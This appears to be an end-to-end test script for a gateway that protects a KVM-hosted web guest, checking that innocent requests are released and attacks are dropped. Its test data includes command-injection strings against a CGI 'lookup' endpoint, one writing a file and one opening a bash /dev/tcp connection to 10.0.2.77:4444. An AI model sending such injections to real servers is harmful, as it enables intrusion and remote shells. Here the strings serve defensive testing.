#!/usr/bin/python3
"""The whole gateway with a stock guest on engine kvm: it serves, innocent input that looks odd is held, tried and released, attacks
have no effect; with clones on soft, and with clones on kvm. Runs here where there is a usable /dev/kvm, else in the outer machine
(tests/kvm/outer.py).

    test_kvm.py BUILD-DIRECTORY [IMAGE-DIRECTORY]"""

import glob
import os
import subprocess
import sys

from stand import PATIENCE, Stand, main, require, skip, until

HERE = os.path.dirname(os.path.abspath(__file__))
SOURCE = os.path.dirname(os.path.dirname(HERE))
sys.path.insert(0, os.path.join(SOURCE, "tests", "kvm"))
import outer  # noqa: E402

TWIN = "/cgi-bin/lookup?host=localhost&note=a;b"
WRITES = "/cgi-bin/lookup?host=localhost;touch$IFS/var/www/touched/%s"
CALLS = "/cgi-bin/lookup?host=localhost%3Bbash+-c+%27exec+3%3C%3E/dev/tcp/10.0.2.77/4444%27"
# Time is the host's, and one that is emulated has little of it.
SLOW = {"wall": "10 min", "handling_instructions": 1000000000000, "horizon_instructions": 1000000000000}
# Of a clone on kvm that is time, too, and no less than it takes to do the work; one on soft has its own.
HORIZON = {"soft": "2 s", "kvm": "40 s"}


def stand_on_kvm(clones):
    return Stand(sys.argv, guest={"engine": "kvm", "clone": {"engine": clones}}, service={"hold_time": "30 min"},
                 top={"clone": dict(SLOW, horizon=HORIZON[clones])})


def verdict_of(stand, count):
    # What the client sends behind it, when it gives up, may be one more; and that a processor is busy for long is nothing here.
    return until(lambda: len(stand.verdicts()) >= count and stand.verdicts(), "%d verdicts" % count)[count - 1]


def serves(stand):
    stand.wait_for_guest()
    guest = stand.cli("guests")["web"]
    require(guest["engine"] == "kvm", "the guest runs on kvm: %s" % guest)
    for _ in range(3):
        require(stand.get("/", timeout=PATIENCE)[0] == 200, "the guest serves")
    require(not stand.verdicts(), "nothing is held: %s" % stand.verdicts())
    require(stand.get(TWIN, timeout=PATIENCE)[0] == 200, "an innocent request was not answered")
    require(verdict_of(stand, 1) == ("clean", "released"), "the innocent request: %s" % stand.verdicts())


def a_guest_on_kvm_is_protected():
    with stand_on_kvm("soft") as stand:
        serves(stand)
        require(stand.get(WRITES % "stopped", timeout=PATIENCE)[0] is None, "an attack was answered")
        verdict, disposition = verdict_of(stand, 2)
        require(verdict in ("malicious", "suspicious") and disposition in ("dropped", "reset"), "the attack: %s" % stand.verdicts())
        require(stand.get("/touched/stopped", timeout=PATIENCE)[0] == 404, "the live guest was touched")


def its_clones_may_be_on_kvm():
    with stand_on_kvm("kvm") as stand:
        serves(stand)
        require(stand.get(CALLS, timeout=PATIENCE)[0] is None, "an attack was answered")
        verdict, disposition = verdict_of(stand, 2)
        require(verdict == "malicious" and disposition in ("dropped", "reset"), "the attack: %s" % stand.verdicts())
        require(stand.get("/", timeout=PATIENCE)[0] == 200, "the guest serves after it")


# ---- The outer machine ---------------------------------------------------------------------------------------------------


def everything_below(path, at, files, unwanted=()):
    for directory, names, here in os.walk(path):
        names[:] = [n for n in names if n not in unwanted]
        for name in here:
            files[os.path.join(at, os.path.relpath(directory, path), name)] = os.path.join(directory, name)


def in_outer_machine():
    images = sys.argv[2] if len(sys.argv) > 2 else os.path.join(outer.CACHE, "guest", "web")
    if not os.path.exists(os.path.join(images, "vmlinuz")):
        skip("no guest image in %s (deploy/guest/build makes it)" % images)
    why = outer.build()
    if why:
        skip("no outer machine: %s" % why)
    files = {}
    everything_below(HERE, "/project/tests/e2e", files, ("__pycache__",))
    everything_below(os.path.join(SOURCE, "tests", "kvm"), "/project/tests/kvm", files, ("__pycache__",))
    everything_below(os.path.join(SOURCE, "config"), "/project/config", files)
    everything_below(images, "/images", files)
    del files["/images/./root.ext4"]
    ours = [p for p in glob.glob(os.path.join(sys.argv[1], "src", "*", "foretaste*")) if os.path.isfile(p) and os.access(p, os.X_OK)]
    for path in ours:
        files["/project/build/" + os.path.relpath(path, sys.argv[1])] = path
    # Python with its library, and the drivers that DPDK loads.
    python = os.path.realpath("/usr/bin/python3")
    library = "/usr/lib/" + os.path.basename(python)
    static = [os.path.basename(p) for p in glob.glob(library + "/config-*")]
    everything_below(library, library, files, ["test", "idlelib", "lib2to3", "ensurepip", "dist-packages"] + static)
    drivers = [p for name in ("net_af_packet", "bus_vdev", "mempool_ring") for p in glob.glob("/usr/lib/*/dpdk/pmds-*/librte_%s.so*" % name)]
    for path in drivers + [python]:
        files[path] = path
    for path in outer.libraries(python, *ours, *drivers, *glob.glob(library + "/lib-dynload/*.so")):
        files[path] = path
    job = ("ln -s /dev/vda /images/root.ext4; ln -s %s /usr/bin/python3; ln -s /bin/busybox /bin/sysctl; mkdir -p /run/netns /var\n"
           "ln -s /run /var/run; chmod 755 /\n"  # DPDK takes no driver from where anybody may write
           "export PATH=/bin:/usr/bin FORETASTE_STAND_PATIENCE=%d\n"
           "%s -B /project/tests/e2e/test_kvm.py /project/build /images\n") % (python, outer.PATIENCE, python)
    text, status = outer.run(job, ["/bin/ip"], files, os.path.join(images, "root.ext4"), memory=2000)
    print(text[-20000:])
    return 1 if status is None or "SKIP" in text else status


if not outer.usable():
    if os.path.exists("/job"):  # of the outer machine: that it has none is a fault
        print("FAIL: no usable /dev/kvm")
        sys.exit(1)
    sys.exit(in_outer_machine())
main([a_guest_on_kvm_is_protected, its_clones_may_be_on_kvm])
